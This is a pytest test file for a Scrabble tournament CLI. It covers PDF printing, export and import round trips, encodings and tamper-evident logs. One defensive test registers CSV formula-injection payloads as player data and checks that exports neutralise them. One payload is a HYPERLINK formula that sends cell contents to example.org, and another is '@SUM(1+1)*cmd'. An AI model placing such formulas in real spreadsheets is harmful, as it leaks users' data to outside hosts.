"""Paper and files: what is printed, and what goes to other programs and comes back the same."""

from __future__ import annotations

import csv
import json
import re
import zipfile
from pathlib import Path

import pytest

from cli.tournament.desk import Desk
from mostek.documents.document import documents
from mostek.features.desk.cli.files import export_formats
from mostek.tournament.file_formats import read_tournament

OF_SOMEBODY = {"card": "--player 1", "exclusion": "--player 8"}


@pytest.fixture
def held(desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Desk:
    """An event of eight, of which one was excluded, with three rounds; files go into a folder of their own."""
    place = tmp_path / "files"
    place.mkdir()
    monkeypatch.chdir(place)
    desk.founded(8, "--set rounds=3 --city Łódź", name="Próba Żółw")
    for _ in range(3):
        desk.does("pair")
        desk.plays()
    desk.does('exclude 8 --reason "litera w dłoni"')
    return desk


def standings(desk: Desk, event: str) -> list[tuple[object, ...]]:
    rows = desk.does(f"standings -e {event}")["tables"][0]["standings"]
    return [(row["number"], row["half_points"], row["game_points"], row["spread"]) for row in rows if row["place"]]


def test_every_document_is_printed(held: Desk) -> None:
    desk = held
    desk.does("prizes 500 250")
    for name in documents():
        if name in ("categories", "teams", "schools", "bracket", "matches"):
            continue  # of events of another kind, which print them in their own tests
        files = desk.does(f"print {name} {OF_SOMEBODY.get(name, '')}")["files"]
        assert [Path(file).read_bytes()[:5] for file in files] == [b"%PDF-"], name


def test_the_list_of_documents_is_whole(desk: Desk) -> None:
    desk.founded(0)
    assert list(json.loads(desk.says("print --json"))) == list(documents())
    assert all(name in desk.says("print") for name in documents())


def test_a_document_goes_where_it_is_sent(held: Desk, tmp_path: Path) -> None:
    assert held.does("print standings pairings --round 2 -o wydruki/")["files"] == [
        "wydruki/proba-zolw-standings.pdf",
        "wydruki/proba-zolw-pairings-2.pdf",
    ]
    assert held.does("print regulation -o regulamin.pdf")["files"] == ["regulamin.pdf"]
    assert "--output FOLDER" in held.fails("print standings pairings -o -")


def test_a_document_without_contents_does_not_stop_the_others(held: Desk) -> None:
    result = held.run("print prizes standings teams -o wydruki/")
    assert result.exit_code == 1
    assert result.stderr.splitlines() == [
        "Prize list: There is nothing to print: no prizes are named.",
        "Classification of the teams: There is nothing to print: no team has entered.",
    ]
    assert [path.name for path in Path("wydruki").iterdir()] == ["proba-zolw-standings.pdf"]
    assert "no prizes are named" in held.fails("print prizes")


def test_diplomas_take_a_logo_and_a_colour(held: Desk) -> None:
    Path("logo.svg").write_text('<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9"><circle r="4"/></svg>')
    held.does("print diplomas -o plain.pdf")
    held.does("print diplomas --logo logo.svg --colour #8a2b0e -o own.pdf")
    assert Path("own.pdf").read_bytes() != Path("plain.pdf").read_bytes()
    assert "'red' is no colour" in held.fails("print diplomas --colour red")
    Path("logo.svg").write_bytes(b"GIF89a")
    assert "The logo is neither PNG nor SVG." in held.fails("print diplomas --logo logo.svg")
    Path("logo.svg").write_bytes(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x10\0\0\0\x10")
    assert "The logo cannot be drawn" in held.fails("print diplomas --logo logo.svg")


def test_where_nothing_can_be_written_is_said(held: Desk) -> None:
    Path("zajęte").write_text("")
    for line in ("print standings -o zajęte/", "print standings pairings -o zajęte", "export csv -o zajęte/wyniki"):
        assert "cannot be written" in held.fails(line), line
    assert Path("zajęte").read_text() == ""


def test_what_is_not_there_is_not_printed(desk: Desk) -> None:
    desk.founded(4)
    assert "round 1" in desk.fails("print pairings")
    assert "--player" in desk.fails("print card")
    assert "number 9" in desk.fails("print card --player 9")
    assert "Gracz 1 is not excluded" in desk.fails("print exclusion --player 1")
    assert "no team" in desk.fails("print teams")
    assert "standings" in desk.fails("print standing")


@pytest.mark.parametrize("form", ["json", "text", "manager", "log"])
def test_an_event_comes_back_as_it_went(held: Desk, form: str) -> None:
    files = held.does(f"export {form} -o dla-innych")["files"]
    answer = held.does(f"import {' '.join(files)} --name powrót")
    assert answer["event"] == "powrot"
    # What the excluded player has won counts for the others; that the player was excluded, only our log can say.
    found = {row[0]: row[1:] for row in standings(held, "powrot")}
    names = {row["person"]["name"]: row["number"] for row in held.does("entrants -e powrot")["entrants"]}
    for number, *figures in standings(held, "proba"):
        assert found[names[f"Gracz {number}"]] == tuple(figures), form


def test_a_name_that_a_format_would_take_apart_is_said(
    desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    desk.founded(2, "--set rounds=2")
    desk.does('amend 1 --name "Gracz 1 Pierwszy"')
    assert "Gracz 1 Pierwszy" in desk.fails("export tsh")
    for number, name in ((1, "Zofia Wąs"), (2, "Jan Żak")):
        desk.does(f'amend {number} --name "{name}"')
    desk.does("pair")
    desk.plays()
    files = desk.does("export tsh --encoding windows-1250")["files"]
    assert files == ["proba/config.tsh", "proba/a.t"]
    assert "Żak" in Path(files[1]).read_bytes().decode("cp1250")
    desk.does(f"import {' '.join(files)} --name tsh")
    assert [row[1:] for row in standings(desk, "tsh")] == [row[1:] for row in standings(desk, "proba")]


def test_a_spreadsheet_is_for_reading(held: Desk) -> None:
    files = held.does("export csv")["files"]
    assert [re.sub(r".*-", "", file) for file in files] == ["players.csv", "results.csv", "standings.csv"]
    assert "Gracz 1" in Path(files[0]).read_text("utf-8-sig")
    players = held.does(f"import {files[0]} --name lista")
    assert players["differences"] == []
    assert len(held.does("entrants -e lista")["entrants"]) == 8


def test_polish_letters_survive_the_old_code_page(held: Desk) -> None:
    (file,) = held.does("export text --encoding windows-1250")["files"]
    assert "Próba Żółw" in Path(file).read_bytes().decode("cp1250")
    held.does(f"import {file} --name stary")
    assert held.does("show -e stary")["name"] == "Próba Żółw"


def test_the_chess_report_says_what_it_loses(held: Desk) -> None:
    assert "game points" in held.says("export trf")


def test_every_format_is_known_to_the_help(desk: Desk) -> None:
    shown = desk.says("export --help")
    assert all(form in shown for form in export_formats())


def test_a_name_is_not_taken_twice(held: Desk) -> None:
    (file,) = held.does("export log")["files"]
    assert "--name" in held.fails(f"import {file}")


def test_a_file_that_was_cut_is_refused_with_its_place(held: Desk) -> None:
    (file,) = held.does("export json")["files"]
    whole = Path(file).read_bytes()
    Path("cut.json").write_bytes(whole[: len(whole) // 2])
    assert "cut.json, line" in held.fails("import cut.json")
    Path("empty.json").write_bytes(b"")
    assert "empty.json" in held.fails("import empty.json")
    assert "nowhere.json" in held.fails("import nowhere.json")


def test_a_log_that_was_changed_is_refused(held: Desk) -> None:
    (file,) = held.does("export log")["files"]
    data = Path(file).read_bytes()
    Path("changed.jsonl").write_bytes(data.replace(b"497", b"597", 1))
    assert "the hash does not agree" in held.fails("import changed.jsonl --name inny")
    Path("torn.jsonl").write_bytes(data[:-20])
    held.says("import torn.jsonl --name ucięty")
    assert len(held.does("log -e uciety")["steps"]) == len(held.does("log -e proba")["steps"]) - 1


def test_tables_of_four_go_into_the_log_alone(desk: Desk, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    desk.founded(7, "--template chal --set rounds=1", name="Wieczór")
    desk.does("pair")
    desk.plays()
    assert "games of two" in desk.fails("export json")
    assert desk.does("export log")["files"]
    desk.does("print pairings slips standings")


@pytest.mark.corpus
@pytest.mark.parametrize("event", ["graboszyce", "katowice", "sochaczew", "sosnowiec"])
def test_a_published_event_gives_the_published_figures(desk: Desk, event: str) -> None:
    file = Path(__file__).parents[4] / "shared" / "corpus" / "tournaments" / "pfs" / f"{event}-2026.json"
    if not file.exists():
        pytest.skip("the shared corpus is not here")
    assert desk.does(f"import {file}")["differences"] == []
    assert "as the file states" in desk.says(f"import {file} --name drugi")


def test_several_events_make_a_ranking_and_a_grand_prix(desk: Desk) -> None:
    for name in ("Wiosna", "Lato"):
        desk.founded(4, "--set rounds=2", name=name)
        for _ in range(2):
            desk.does("pair")
            desk.plays()
    made = desk.does("ranking --on 2026-12-01")
    assert made["main"] == []
    reached = {row["player"]: (row["scalps"], row["games"]) for row in made["waiting"]}
    once = {row["name"]: row["scalps"] for row in desk.does("rating -e lato")["ratings"]}
    assert reached == {name: (2 * scalps, 4) for name, scalps in once.items()}
    assert desk.does("ranking wiosna --on 2029-01-01") == {"main": [], "waiting": []}
    rows = desk.does("grandprix wiosna lato")["rows"]
    assert [(row["place"], row["points"], row["by_event"]) for row in rows[:2]] == [
        (1, 70, [35, 35]),
        (2, 60, [30, 30]),
    ]
    assert desk.does("grandprix wiosna --silver")["rows"] == []
    assert "Gracz 1" in desk.says("grandprix wiosna lato")
    assert "Gracz 1" in desk.says("ranking")


def test_one_archive_has_all_that_a_federation_needs(held: Desk) -> None:
    desk = held
    desk.does("rule PFS-7.1a Upomnienie --about 3")
    (file,) = desk.does("export federation")["files"]
    with zipfile.ZipFile(file) as archive:
        files = {name.partition("/")[2]: archive.read(name) for name in archive.namelist()}
    report = files["report.txt"].decode("utf-8-sig")
    assert "Upomnienie" in report
    assert "PFS-7.1a" in report
    assert re.search(r"8\. Gracz 8.*\texcluded", report)
    (log,) = desk.does("export log -o dziennik")["files"]
    head = json.loads(Path(log).read_text("utf-8").splitlines()[-1])["hash"]
    assert head in files["proof.txt"].decode("utf-8-sig")
    back = next(name for name in files if name.endswith(".json"))
    assert json.loads(files[back])["tournament"]["name"] == "Próba Żółw"
    assert "not closed yet" in desk.says("export federation")


HYPERLINK = '=HYPERLINK("http://example.org/?"&A1,"wyniki")'


def test_texts_are_no_formulas_in_tables_and_stay_exact_in_files_of_programs(desk: Desk, tmp_path: Path) -> None:
    desk.founded(3)
    desk.does(f"register '@SUM(1+1)*cmd' --city '{HYPERLINK}' --club '{HYPERLINK}'")
    desk.does("checkin --all")
    desk.does("pair")
    desk.plays()
    with pytest.MonkeyPatch.context() as place:
        place.chdir(tmp_path)
        tables = [Path(file) for file in desk.does("export csv")["files"]]
        rows = [row for file in tables for row in csv.reader(file.read_text("utf-8-sig").splitlines(), delimiter=";")]
        assert f"'{HYPERLINK}" in {cell for row in rows for cell in row}
        assert "'@SUM(1+1)*cmd" in {cell for row in rows for cell in row}
        risky = {cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@")}
        assert risky
        assert all(re.fullmatch(r"-[0-9]+", cell) for cell in risky), "a spread below 0 is a number"
        assert read_tournament({file.name: file.read_bytes() for file in tables}).players[3].city == HYPERLINK
        for form in ("json", "tourney"):
            files = desk.does(f"export {form}")["files"]
            assert any('"@SUM(1+1)*cmd"' in Path(file).read_text("utf-8") for file in files), form
        (archive,) = desk.does("export federation")["files"]
        with zipfile.ZipFile(archive) as packed:
            texts = [packed.read(name).decode("utf-8-sig") for name in packed.namelist() if name.endswith(".txt")]
    cells = {cell for each in texts for line in each.splitlines() if "\t" in line for cell in line.split("\t")}
    assert f"'{HYPERLINK}" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "@"))]
